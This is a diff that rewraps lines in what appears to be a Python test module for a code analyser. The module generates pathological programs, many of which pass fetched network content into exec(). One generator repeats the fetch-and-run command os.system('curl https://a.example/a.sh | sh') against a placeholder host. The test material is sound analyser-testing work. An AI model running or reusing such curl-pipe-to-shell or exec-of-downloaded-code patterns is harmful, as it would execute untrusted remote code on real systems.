@@ -94,7 +94,11 @@ def blanks_in_texts(times: int = 30_000) -> str:
 
 
 def found_on_a_long_line(times: int = 40_000) -> str:
-    return "import os; " + "; ".join("os.system('curl https://a.example/a.sh | sh')" for _ in range(times)) + "\n"
+    return (
+        "import os; "
+        + "; ".join("os.system('curl https://a.example/a.sh | sh')" for _ in range(times))
+        + "\n"
+    )
 
 
 def all_joined(times: int = 3_000) -> str:
@@ -162,7 +166,10 @@ PROGRAMS: dict[str, Callable[[], str]] = {
     "ifs-in-calls": lambda: (
         FETCH
         + "".join(
-            f"def f{i}():\n" + "".join(" " * (d + 1) + "if page:\n" for d in range(300)) + " " * 302 + f"f{i + 1}()\n"
+            f"def f{i}():\n"
+            + "".join(" " * (d + 1) + "if page:\n" for d in range(300))
+            + " " * 302
+            + f"f{i + 1}()\n"
             for i in range(60)
         )
         + "def f60():\n exec(page)\nf0()\n"
@@ -187,10 +194,16 @@ PROGRAMS: dict[str, Callable[[], str]] = {
     "doubling-percent": lambda: FETCH + "x = 'a'\n" + "x = '%s%s' % (x, x)\n" * 50,
     "doubling-in-a-loop": lambda: FETCH + "x = 'a'\nfor i in range(4000):\n    x += x\n",
     "growing-in-a-loop": lambda: FETCH + "x = 'a' * 4000000\nfor i in range(1000):\n    x += 'b'\n",
-    "growing-in-loops": lambda: FETCH
-    + "".join(f"x = 'a' * 100000 + '{k}'\nfor i in range(1000):\n    x = x + 'b'\n" for k in range(20)),
-    "least-slice": lambda: "a = -9223372036854775807 - 1\nx = 'abc'[::a]\ny = range(5, 1, a)\nz = 'abc'[a:a:a]\n",
-    "numbers": lambda: "x = 9223372036854775807\ny = x + 1\nz = -x - 2\nw = x << 62\nv = x * x\nu = (-x - 1) // -1\n",
+    "growing-in-loops": lambda: (
+        FETCH
+        + "".join(f"x = 'a' * 100000 + '{k}'\nfor i in range(1000):\n    x = x + 'b'\n" for k in range(20))
+    ),
+    "least-slice": lambda: (
+        "a = -9223372036854775807 - 1\nx = 'abc'[::a]\ny = range(5, 1, a)\nz = 'abc'[a:a:a]\n"
+    ),
+    "numbers": lambda: (
+        "x = 9223372036854775807\ny = x + 1\nz = -x - 2\nw = x << 62\nv = x * x\nu = (-x - 1) // -1\n"
+    ),
     "long-line": lambda: FETCH + "x = '" + "a" * 10_000_000 + "'\n",
     "long-line-of-code": lambda: FETCH + "x = [" + "1, " * 3_300_000 + "]\n",
     "long-name": lambda: FETCH + "a" * 5_000_000 + " = page\n",
@@ -206,7 +219,9 @@ PROGRAMS: dict[str, Callable[[], str]] = {
     "functions-that-run": lambda: FETCH + "".join(f"def f{i}(a):\n    exec(a)\n" for i in range(20_000)),
     "classes": lambda: FETCH + "".join(f"class A{i}:\n    a = 1\n" for i in range(DEEP)),
     "classes-of-one-another": lambda: (
-        FETCH + "class A0:\n    a = 1\n" + "".join(f"class A{i + 1}(A{i}):\n    b = 1\n" for i in range(20_000))
+        FETCH
+        + "class A0:\n    a = 1\n"
+        + "".join(f"class A{i + 1}(A{i}):\n    b = 1\n" for i in range(20_000))
     ),
     "sinks": lambda: FETCH + "exec(page)\n" * DEEP,
     "sources": lambda: "import requests\nx = ''\n" + "x += requests.get('a').text\n" * 20_000 + "exec(x)\n",
@@ -222,7 +237,9 @@ PROGRAMS: dict[str, Callable[[], str]] = {
     "lists-of-one-another": lists_of_one_another,
     "cyclic-objects": cyclic_objects,
     "sixty-four-parameters": sixty_four_parameters,
-    "regex-hostile": lambda: FETCH + "".join(f"x = '{'a' * 5000}{i}!'\n" for i in range(200)) + "y = '" + "http://" * DEEP + "'\n",
+    "regex-hostile": lambda: (
+        FETCH + "".join(f"x = '{'a' * 5000}{i}!'\n" for i in range(200)) + "y = '" + "http://" * DEEP + "'\n"
+    ),
     "urls": lambda: FETCH + "".join(f"x{i} = 'https://a{i}.example/{'a' * 50}'\n" for i in range(50_000)),
     "open-brackets": lambda: "(" * DEEP,
     "closed-brackets": lambda: ")" * DEEP,
@@ -231,14 +248,32 @@ PROGRAMS: dict[str, Callable[[], str]] = {
     "backslashes": lambda: "x = '" + "\\\\" * 2_000_000 + "'\n",
     "escapes": lambda: "x = '" + "\\x41" * 1_000_000 + "'\nexec(x)\n",
     "semicolons": lambda: FETCH + "x=page;" * DEEP + "\n",
-    "nothing-but-globals": lambda: FETCH + "def f():\n" + "".join(f"    global a{i}\n" for i in range(20_000)) + "    exec(page)\n",
+    "nothing-but-globals": lambda: (
+        FETCH + "def f():\n" + "".join(f"    global a{i}\n" for i in range(20_000)) + "    exec(page)\n"
+    ),
     "matches": lambda: FETCH + "match page:\n" + "    case [a, b]:\n        x = a\n" * 20_000,
-    "nested-patterns": lambda: FETCH + "match page:\n    case " + around("[", "a", "]", 5_000) + ":\n        exec(a)\n",
-    "try-in-try": lambda: FETCH + "".join(" " * d + "try:\n" for d in range(300)) + " " * 300 + "exec(page)\n"
-    + "".join(" " * d + "except E:\n" + " " * d + " pass\n" for d in reversed(range(300))),
-    "loops-in-loops-that-carry": lambda: FETCH + "a = b = ''\n" + "".join(" " * d + f"for i{d} in page:\n" for d in range(80))
-    + " " * 80 + "a = a + b + page\n" + " " * 80 + "b = a\n",
+    "nested-patterns": lambda: (
+        FETCH + "match page:\n    case " + around("[", "a", "]", 5_000) + ":\n        exec(a)\n"
+    ),
+    "try-in-try": lambda: (
+        FETCH
+        + "".join(" " * d + "try:\n" for d in range(300))
+        + " " * 300
+        + "exec(page)\n"
+        + "".join(" " * d + "except E:\n" + " " * d + " pass\n" for d in reversed(range(300)))
+    ),
+    "loops-in-loops-that-carry": lambda: (
+        FETCH
+        + "a = b = ''\n"
+        + "".join(" " * d + f"for i{d} in page:\n" for d in range(80))
+        + " " * 80
+        + "a = a + b + page\n"
+        + " " * 80
+        + "b = a\n"
+    ),
     "results-of-results": lambda: FETCH + "def f(g, x):\n    return g(g, x + 'a')\nf(f, page)\n",
-    "partials": lambda: "from functools import partial\nf = print\n" + "f = partial(f, 1)\n" * 5_000 + "f()\n",
+    "partials": lambda: (
+        "from functools import partial\nf = print\n" + "f = partial(f, 1)\n" * 5_000 + "f()\n"
+    ),
     "self-partials": lambda: "from functools import partial\ndef f(g):\n    return partial(g, f)(f)\nf(f)\n",
 }
